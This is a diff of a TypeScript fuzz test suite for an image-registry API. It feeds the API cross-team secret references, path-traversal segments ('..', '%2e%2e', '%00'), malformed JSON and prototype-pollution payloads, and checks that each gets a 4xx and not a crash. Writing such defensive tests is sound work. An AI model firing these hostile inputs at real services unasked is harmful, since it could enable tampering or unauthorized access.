+        "team-a's built url",
+      );
+      const [repository, tag] = [built.slice(0, built.lastIndexOf(':')), built.slice(built.lastIndexOf(':') + 1)];
+      const host = repository.slice(0, repository.indexOf('/'));
+      const secretRefs = fc.oneof(
+        fc.constantFrom(
+          'team-a/cross-held',
+          'team-a/zz-none',
+          'cross-held',
+          'team-b/cross-held',
+          'TEAM-A/cross-held',
+          'team-a/cross-held/',
+          'team-a//cross-held',
+          'team-a/cross-held\u0000',
+        ),
+        fc
+          .tuple(
+            fc.constantFrom('team-a', 'team-a.', 'team-a ', 'Team-a', '../team-a', 'team-a%2f'),
+            fc.constantFrom('cross-held', 'CROSS-HELD', 'cross-held '),
+          )
+          .map(([g, n]) => `${g}/${n}`),
+        hostileText,
+      );
+      const imageRefs = fc.oneof(
+        fc.constantFrom(
+          built,
+          built.toUpperCase(),
+          built.replace('localhost', '127.0.0.1'),
+          `${repository}@sha256:${'a'.repeat(64)}`,
+          `${built}@sha256:${'a'.repeat(64)}`,
+          `${host.toUpperCase()}/${repository.slice(host.length + 1)}:${tag}`,
+        ),
+        fc
+          .tuple(
+            fc.constantFrom(repository, repository.replace('localhost', '127.0.0.1'), `${host}:443/${repository.slice(host.length + 1)}`),
+            fc.constantFrom(tag, tag.toUpperCase(), `${tag}0`, 'latest', `sha-${'0'.repeat(32)}`),
+          )
+          .map(([r, g]) => `${r}:${g}`),
+        hostileText,
+      );
+      const field = fc.constantFrom('pullSecret', 'build.pullSecret', 'url', 'urlForGpu', 'build.baseImage');
 
-    await run(
-      'crossReferences',
-      fc.asyncProperty(field, secretRefs, imageRefs, async (which, secret, image) => {
-        // Act
-        const value = which.endsWith('ullSecret') ? secret : image;
-        const body =
-          which === 'pullSecret' ? { displayName: 'cross', type: 'cpu', url: 'python:3.12', pullSecret: value }
-          : which === 'build.pullSecret' ? { displayName: 'cross', type: 'cpu', build: { baseImage: BASE, pullSecret: value, packages: {} } }
-          : which === 'url' ? { displayName: 'cross', type: 'cpu', url: value }
-          : which === 'urlForGpu' ? { displayName: 'cross', type: 'universal', url: 'python:3.12', urlForGpu: value }
-          : { displayName: 'cross', type: 'cpu', build: { baseImage: value, packages: {} } };
-        const reply = await send('POST', '/groups/team-b/images', { token: t.otherAdmin, body });
+      await run(
+        'crossReferences',
+        fc.asyncProperty(field, secretRefs, imageRefs, async (which, secret, image) => {
+          // Act
+          const value = which.endsWith('ullSecret') ? secret : image;
+          const body =
+            which === 'pullSecret'
+              ? { displayName: 'cross', type: 'cpu', url: 'python:3.12', pullSecret: value }
+              : which === 'build.pullSecret'
+                ? { displayName: 'cross', type: 'cpu', build: { baseImage: BASE, pullSecret: value, packages: {} } }
+                : which === 'url'
+                  ? { displayName: 'cross', type: 'cpu', url: value }
+                  : which === 'urlForGpu'
+                    ? { displayName: 'cross', type: 'universal', url: 'python:3.12', urlForGpu: value }
+                    : { displayName: 'cross', type: 'cpu', build: { baseImage: value, packages: {} } };
+          const reply = await send('POST', '/groups/team-b/images', { token: t.otherAdmin, body });
 
-        // Assess: team-a's are never accepted, and a 422 names the field that was set.
-        expectHandled(reply, { which, value });
-        const teamAsSecret = which.endsWith('ullSecret') && SECRET_REFERENCE.exec(value)?.[1] !== undefined && SECRET_REFERENCE.exec(value)?.[1] !== 'team-b';
-        const teamAsImage = !which.endsWith('ullSecret') && /^(localhost|127\.0\.0\.1)(:5000)?\/group-images[:@]/i.test(value);
-        if (teamAsSecret || teamAsImage) expect([which, value, reply.status]).toEqual([which, value, 422]);
-        if (reply.status === 422) expect(pathsOf(reply)).toEqual([`/${which.replace('.', '/')}`]);
-        if (reply.status === 201) figures.count('crossReferencesAccepted');
-      }),
-    );
-  }, SUITE_MS);
+          // Assess: team-a's are never accepted, and a 422 names the field that was set.
+          expectHandled(reply, { which, value });
+          const teamAsSecret = which.endsWith('ullSecret') && SECRET_REFERENCE.exec(value)?.[1] !== undefined && SECRET_REFERENCE.exec(value)?.[1] !== 'team-b';
+          const teamAsImage = !which.endsWith('ullSecret') && /^(localhost|127\.0\.0\.1)(:5000)?\/group-images[:@]/i.test(value);
+          if (teamAsSecret || teamAsImage) expect([which, value, reply.status]).toEqual([which, value, 422]);
+          if (reply.status === 422) expect(pathsOf(reply)).toEqual([`/${which.replace('.', '/')}`]);
+          if (reply.status === 201) figures.count('crossReferencesAccepted');
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 });
 
 describe('query parameters, path segments and whole bodies', () => {
-  it('answers every list, selection, history and log query with a page or a 4xx', async () => {
-    const key = fc.oneof(fc.constantFrom('q', 'limit', 'cursor', 'type'), urlSafe(hostileText));
-    const value = urlSafe(fc.oneof(hostileText, fc.integer({ min: -5, max: 1000 }).map(String), fc.constantFrom('cpu', 'gpu', '')));
-    const paths = fc.constantFrom(GROUP, '/images', '/groups/team-a/image-selection', `${GROUP}/${'{fixture}'}/builds`, `${GROUP}/${'{fixture}'}/builds/${'{build}'}/logs`);
-    await run(
-      'queries',
-      fc.asyncProperty(paths, fc.array(fc.tuple(key, value), { maxLength: 4 }), async (template, pairs) => {
-        // Prepare
-        const path = template.replace('{fixture}', fixture.name).replace('{build}', fixture.latestBuild!.id);
-        const query = new URLSearchParams(pairs);
+  it(
+    'answers every list, selection, history and log query with a page or a 4xx',
+    async () => {
+      const key = fc.oneof(fc.constantFrom('q', 'limit', 'cursor', 'type'), urlSafe(hostileText));
+      const value = urlSafe(fc.oneof(hostileText, fc.integer({ min: -5, max: 1000 }).map(String), fc.constantFrom('cpu', 'gpu', '')));
+      const paths = fc.constantFrom(
+        GROUP,
+        '/images',
+        '/groups/team-a/image-selection',
+        `${GROUP}/${'{fixture}'}/builds`,
+        `${GROUP}/${'{fixture}'}/builds/${'{build}'}/logs`,
+      );
+      await run(
+        'queries',
+        fc.asyncProperty(paths, fc.array(fc.tuple(key, value), { maxLength: 4 }), async (template, pairs) => {
+          // Prepare
+          const path = template.replace('{fixture}', fixture.name).replace('{build}', fixture.latestBuild!.id);
+          const query = new URLSearchParams(pairs);
 
-        // Act
-        const reply = await send('GET', `${path}?${query}`, { token: t.member });
+          // Act
+          const reply = await send('GET', `${path}?${query}`, { token: t.member });
 
-        // Assess
-        expectHandled(reply, { path, pairs });
-        expect([200, 400, 413, 422]).toContain(reply.status);
-      }),
-    );
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, { path, pairs });
+          expect([200, 400, 413, 422]).toContain(reply.status);
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 
-  it('answers every path segment with a resource or a 404, never a 5xx', async () => {
-    const segment = urlSafe(fc.oneof(hostileText, fc.constantFrom('team-a', 'team-b', '..', '.', '%2e%2e', '%00')));
-    await run(
-      'paths',
-      fc.asyncProperty(segment, segment, segment, fc.constantFrom('GET', 'DELETE', 'POST'), async (group, name, build, method) => {
-        // Prepare
-        const enc = (s: string) => (/^%[0-9a-f]{2}/i.test(s) ? s : encodeURIComponent(s));
-        const path = method === 'POST' ? `/groups/${enc(group)}/images/${enc(name)}/builds/${enc(build)}/cancel` : method === 'DELETE' ? `/groups/${enc(group)}/images/${enc(name)}` : `/groups/${enc(group)}/images/${enc(name)}/builds/${enc(build)}`;
+  it(
+    'answers every path segment with a resource or a 404, never a 5xx',
+    async () => {
+      const segment = urlSafe(fc.oneof(hostileText, fc.constantFrom('team-a', 'team-b', '..', '.', '%2e%2e', '%00')));
+      await run(
+        'paths',
+        fc.asyncProperty(segment, segment, segment, fc.constantFrom('GET', 'DELETE', 'POST'), async (group, name, build, method) => {
+          // Prepare
+          const enc = (s: string) => (/^%[0-9a-f]{2}/i.test(s) ? s : encodeURIComponent(s));
+          const path =
+            method === 'POST'
+              ? `/groups/${enc(group)}/images/${enc(name)}/builds/${enc(build)}/cancel`
+              : method === 'DELETE'
+                ? `/groups/${enc(group)}/images/${enc(name)}`
+                : `/groups/${enc(group)}/images/${enc(name)}/builds/${enc(build)}`;
 
-        // Act
-        const reply = await send(method, path, { token: t.systemAdmin });
+          // Act
+          const reply = await send(method, path, { token: t.systemAdmin });
 
-        // Assess
-        expectHandled(reply, { method, path });
-        expect([200, 204, 404, 405]).toContain(reply.status);
-      }),
-    );
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, { method, path });
+          expect([200, 204, 404, 405]).toContain(reply.status);
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 
-  it('answers any JSON (or not-JSON) body on every write route with a success or a 4xx, and pollutes no prototype', async () => {
-    const RAW = [
-      '{"__proto__":{"polluted":true},"displayName":"proto","type":"cpu","url":"python:3.12"}',
-      '{"constructor":{"prototype":{"polluted":true}}}',
-      '{"build":{"__proto__":{"polluted":true},"baseImage":"python:3.12","packages":{"pip":["requests"]}}}',
-      `${'['.repeat(5000)}${']'.repeat(5000)}`,
-      `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
-      '{"displayName":"x"',
-      '\u0000',
-      '\ufeff{"displayName":"bom","type":"cpu","url":"python:3.12"}',
-      'null',
-      '[]',
-      '"text"',
-      '1e999',
-    ];
-    const body = fc.oneof(
-      fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v) ?? 'null'),
-      fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'displayName', 'type', 'url', 'build', 'packages', 'registry', 'password'), fc.jsonValue({ maxDepth: 3 })).map((v) => JSON.stringify(v)),
-      fc.constantFrom(...RAW),
-      hostileText,
-    );
-    const route = fc.constantFrom(
-      ['POST', GROUP],
-      ['PATCH', `${GROUP}/{fixture}`],
-      ['POST', `${GROUP}/{fixture}/builds`],
-      ['PUT', '/secrets/hostile-body'],
-      ['POST', '/images'],
-    );
-    await run(
-      'bodies',
-      fc.asyncProperty(route, body, async ([method, template], rawBody) => {
-        // Act
-        const reply = await send(method!, template!.replace('{fixture}', fixture.name), { token: t.systemAdmin, rawBody });
+  it(
+    'answers any JSON (or not-JSON) body on every write route with a success or a 4xx, and pollutes no prototype',
+    async () => {
+      const RAW = [
+        '{"__proto__":{"polluted":true},"displayName":"proto","type":"cpu","url":"python:3.12"}',
+        '{"constructor":{"prototype":{"polluted":true}}}',
+        '{"build":{"__proto__":{"polluted":true},"baseImage":"python:3.12","packages":{"pip":["requests"]}}}',
+        `${'['.repeat(5000)}${']'.repeat(5000)}`,
+        `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
+        '{"displayName":"x"',
+        '\u0000',
+        '\ufeff{"displayName":"bom","type":"cpu","url":"python:3.12"}',
+        'null',
+        '[]',
+        '"text"',
+        '1e999',
+      ];
+      const body = fc.oneof(
+        fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v) ?? 'null'),
+        fc
+          .dictionary(
+            fc.constantFrom('__proto__', 'constructor', 'prototype', 'displayName', 'type', 'url', 'build', 'packages', 'registry', 'password'),
+            fc.jsonValue({ maxDepth: 3 }),
+          )
+          .map((v) => JSON.stringify(v)),
+        fc.constantFrom(...RAW),
+        hostileText,
+      );
+      const route = fc.constantFrom(
+        ['POST', GROUP],
+        ['PATCH', `${GROUP}/{fixture}`],
+        ['POST', `${GROUP}/{fixture}/builds`],
+        ['PUT', '/secrets/hostile-body'],
+        ['POST', '/images'],
+      );
+      await run(
+        'bodies',
+        fc.asyncProperty(route, body, async ([method, template], rawBody) => {
+          // Act
+          const reply = await send(method!, template!.replace('{fixture}', fixture.name), { token: t.systemAdmin, rawBody });
 
-        // Assess
-        expectHandled(reply, { method, template, rawBody: rawBody.slice(0, 100) });
-        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
-      }),
-    );
-  }, SUITE_MS);
+          // Assess
+          expectHandled(reply, { method, template, rawBody: rawBody.slice(0, 100) });
+          expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+        }),
+      );
+    },
+    SUITE_MS,
+  );
 });
 
 describe("the service's own log lines", () => {
